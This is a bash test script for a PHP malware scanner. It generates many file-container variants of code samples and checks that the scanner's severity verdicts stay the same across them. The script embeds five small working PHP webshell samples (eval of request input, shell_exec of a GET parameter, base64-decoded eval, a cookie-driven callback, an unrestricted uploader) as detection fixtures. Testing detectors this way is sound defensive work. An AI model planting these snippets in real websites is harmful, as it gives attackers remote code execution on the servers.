#!/usr/bin/env bash
# The verdict on a piece of code does not depend on its container: a handful
# of techniques (and benign look-alikes) are written, through the containers
# of tests/eval/containergen.py, as another extension or name, a dot-file, a
# .txt run through include(), after / before / amid plugin code, behind a
# short or mixed-case tag, with CRLF or CR line ends, a BOM, cp1251 / GBK /
# invalid UTF-8 comments, NULs after the code, a long line, inside a called
# function or method or an if (isset(...)), after a licence header, in HTML.
# Each malicious technique must get the bare file's severity in every
# container; each benign one no high or critical anywhere (a .txt holding
# PHP keeps at most hs.php_in_text_file, medium; a picture is left out: PHP
# in a picture is hs.php_in_image, high by design).
. "$(dirname "$0")/../lib.sh"
t=$(mktemp_dir)

python3 - "$SRC/tests/eval" "$t/c" <<'PY'
import os, random, sys
sys.path.insert(0, sys.argv[1])
import containergen as cg
out = sys.argv[2]
mal = {
    "eval_input": b"<?php\n$k = 'p' . 'ass';\nif (isset($_POST[$k])) {\n    eval($_POST[$k]);\n}\n",
    "cmd_helper": (b"<?php\nfunction run_c($c) {\n    if (function_exists('shell_exec')) {\n"
                   b"        return shell_exec($c);\n    }\n    return '';\n}\n"
                   b"// run it\necho '<pre>' . run_c($_GET['c']) . '</pre>';\n"),
    "decode_eval": (b"<?php\n$d = base64_decode('ZXZhbCgkX1JFUVVFU1RbJ3gnXSk7');\n"
                    b"# cache\neval($d);\n"),
    "cookie_cb": (b"<?php\n$f = $_COOKIE['f'];\n$a = $_COOKIE['a'];\n"
                  b"array_map($f, array($a));\n"),
    "uploader": (b"<?php\nif (!empty($_FILES['f'])) {\n    move_uploaded_file($_FILES['f']['tmp_name'],"
                 b" __DIR__ . '/' . $_FILES['f']['name']);\n    echo 'ok';\n}\n"),
}
ben = {
    "escape_out": b"<?php\n// a search form\n$q = isset($_GET['q']) ? $_GET['q'] : '';\necho htmlspecialchars($q, ENT_QUOTES);\n",
    "fixed_exec": b"<?php\n/* disk usage for the status page */\n$out = shell_exec('df -h /');\necho '<pre>' . htmlspecialchars($out) . '</pre>';\n",
    "tpl_include": b"<?php\n$page = 'home';\ninclude __DIR__ . '/templates/' . basename($page) . '.php';\n",
}
skip = {"split-two-files"}  # one file cannot see the other's call (docs/detection-eval.md)
with open(os.path.join(out + ".tsv"), "w") as tsv:
    for kind, codes in (("malicious", mal), ("benign", ben)):
        for name, data in codes.items():
            c = cg.Code(name, kind, data)
            items = [("bare", [("x.php", data)])]
            for cn, fn in cg.C.items():
                if cn in skip:
                    continue
                if kind == "benign" and cn in ("name.ico", "name.jpg", "name.png", "name.gif", "name.php.jpg"):
                    continue
                files = fn(c, random.Random("%s:%s" % (cn, name)))
                if files:
                    items.append((cn, files))
            for cn, files in items:
                d = os.path.join(out, name, cn)
                os.makedirs(d)
                for rel, b in files:
                    with open(os.path.join(d, rel), "wb") as f:
                        f.write(b)
                tsv.write("%s\t%s\t%s\n" % (kind, name, cn))
PY
[ -s "$t/c.tsv" ] || { not_ok "containers written" "containergen.py failed"; exit 1; }

hs --format json --full --rules "$SRC/rules" --signatures "$SRC/signatures" scan "$t/c"
check "scan of every container exits 0 or 1" test "$RC" -le 1

python3 - "$OUT" "$t/c" "$t/c.tsv" >"$t/verdicts" <<'PY'
import json, sys
rank = {"none": 0, "info": 1, "low": 2, "medium": 3, "high": 4, "critical": 5}
top = sys.argv[2] + "/"
worst, rules = {}, {}
for line in open(sys.argv[1]):
    o = json.loads(line)
    if o.get("type") != "finding" or not o["path"].startswith(top):
        continue
    name, cn = o["path"][len(top):].split("/")[:2]
    k = (name, cn)
    if rank[o["severity"]] >= worst.get(k, 0):
        worst[k] = rank[o["severity"]]
        rules[k] = ",".join(o["rules"])
inv = {v: k for k, v in rank.items()}
for row in open(sys.argv[3]):
    kind, name, cn = row.split()
    print(kind, name, cn, inv[worst.get((name, cn), 0)], inv[worst.get((name, "bare"), 0)],
          rules.get((name, cn), "-"))
PY

bad=$(awk '$1 == "malicious" && $4 != $5' "$t/verdicts")
n=$(awk '$1 == "malicious"' "$t/verdicts" | wc -l)
if [ -z "$bad" ] && [ "$n" -gt 200 ]; then
	ok "5 techniques in $((n / 5)) containers each: the bare file's severity in every one"
else
	not_ok "5 techniques in every container: the bare file's severity" "$n instances" \
		"$(printf '%s\n' "$bad" | head -8)"
fi
check "every malicious bare file is high or critical" \
	test -z "$(awk '$1 == "malicious" && $3 == "bare" && $4 != "high" && $4 != "critical"' "$t/verdicts")"

bad=$(awk '$1 == "benign" && ($4 == "high" || $4 == "critical")' "$t/verdicts")
check "benign look-alikes: no high or critical in any container" test -z "$bad"
[ -z "$bad" ] || printf '#   %s\n' "$bad" | head -5
# a .txt or .log holding PHP: at most the type-mismatch finding
bad=$(awk '$1 == "benign" && $3 ~ /^incl-/ && $4 != "none" &&
	($4 != "medium" || $6 !~ /^((hs\.php_in_text_file|misc\.misc_php_in_text_file),?)+$/)' "$t/verdicts")
check "benign PHP in a .txt/.log: at most the medium type-mismatch" test -z "$bad"
[ -z "$bad" ] || printf '#   %s\n' "$bad" | head -5
exit $HS_FAILED
